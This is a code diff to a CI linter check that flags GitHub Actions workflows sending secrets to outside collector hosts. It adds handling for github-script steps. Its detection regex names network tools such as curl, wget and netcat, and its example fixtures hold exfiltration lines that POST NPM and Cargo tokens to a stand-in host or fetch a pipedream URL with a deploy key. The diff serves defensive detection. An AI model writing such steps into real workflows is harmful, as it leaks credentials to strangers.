@@ -8,12 +8,18 @@ import { carriedInWords } from "../../../domain/workflow/credentials/leaks/in-wo
 import {
   belongsTo,
   isCatcher,
+  isNamedCatcher,
   isOwnHost,
   type Sending,
   sendingOf,
 } from "../../../domain/workflow/credentials/leaks/network.ts";
 import type { Doing } from "../../../domain/workflow/credentials/leaks/secret-tracer.ts";
+import {
+  carriedByText,
+  secretVariables,
+} from "../../../domain/workflow/credentials/leaks/secret-variables.ts";
 import { traceSecrets } from "../../../domain/workflow/credentials/leaks/trace-secrets.ts";
+import type { Step } from "../../../domain/workflow/model.ts";
 import type { Text } from "../../../domain/workflow/text.ts";
 import { defineCheck } from "../../define-check.ts";
 
@@ -49,6 +55,31 @@ function* judge(doing: Doing, script: Text): Generator<Answer> {
   };
 }
 
+const SENDS = /curl|wget|\bn(?:et)?cat?\b|socat|telnet|http|i[wr][rm]\b|invoke-/i;
+
+function* judgeScript(step: Step, script: Text): Generator<Answer> {
+  const trace = SENDS.test(script.text) ? traceSecrets(step) : undefined;
+  if (trace) for (const doing of trace.doings) yield* judge(doing, script);
+}
+
+const ADDRESS = /\b[a-z]+:\/\/([\w.-]+)/gi;
+
+/** In a language that nobody reads here, beside secrets, the address of somebody who only collects. */
+function* judgeAddresses(step: Step, text: Text): Generator<Answer> {
+  const found = [...text.text.matchAll(ADDRESS)].filter(([, host = ""]) =>
+    isNamedCatcher(host.toLowerCase()),
+  );
+  if (found.length === 0) return;
+  const carried = joined([carriedByText(text), ...secretVariables(step).values()]);
+  if (isNothing(carried)) return;
+  for (const { 0: address, 1: host = "", index } of found)
+    yield {
+      at: text.at(index, index + address.length),
+      confidence: "medium",
+      message: `a script that holds ${carriedInWords(carried)} names \`${host}\`, where nobody offers a service and anybody can collect`,
+    };
+}
+
 export default defineCheck({
   id: "secret-exfiltration",
   title: "Secrets are sent to a stranger",
@@ -59,13 +90,11 @@ export default defineCheck({
 
   *step(step) {
     const { run } = step;
-    if (
-      run === undefined ||
-      !/curl|wget|\bn(?:et)?cat?\b|socat|telnet|http|i[wr][rm]\b|invoke-/i.test(run.text)
-    )
-      return;
-    const trace = traceSecrets(step);
-    if (trace) for (const doing of trace.doings) yield* judge(doing, run);
+    const text = run ?? step.with.get("script");
+    if (text === undefined) return;
+    const found = run ? [...judgeScript(step, run)] : [];
+    yield* found;
+    if (found.length === 0 && text.text.includes("://")) yield* judgeAddresses(step, text);
   },
 
   examples: {
@@ -79,7 +108,7 @@ export default defineCheck({
               runs-on: ubuntu-latest
               steps:
                 - run: curl -s -X POST -d 'NPM=\${{ secrets.NPM_TOKEN }}&CARGO=\${{ secrets.CARGO_TOKEN }}' https://collect.example.org
-                  #    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: \`NPM_TOKEN\` and 1 more secrets goes to
+                  #    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: \`NPM_TOKEN\` (and 1 more) goes to
         `,
       },
       {
@@ -108,6 +137,22 @@ export default defineCheck({
                   #                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: every variable
                   env:
                     KEY: \${{ secrets.DEPLOY_KEY }}
+        `,
+      },
+      {
+        title: "in another language",
+        yaml: `
+          on: push
+          jobs:
+            build:
+              runs-on: ubuntu-latest
+              steps:
+                - uses: actions/github-script@v8
+                  env:
+                    KEY: \${{ secrets.DEPLOY_KEY }}
+                  with:
+                    script: await fetch("https://eo1.m.pipedream.net/" + process.env.KEY)
+                    #                    ^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: a script that holds \`DEPLOY_KEY\` names
         `,
       },
       {
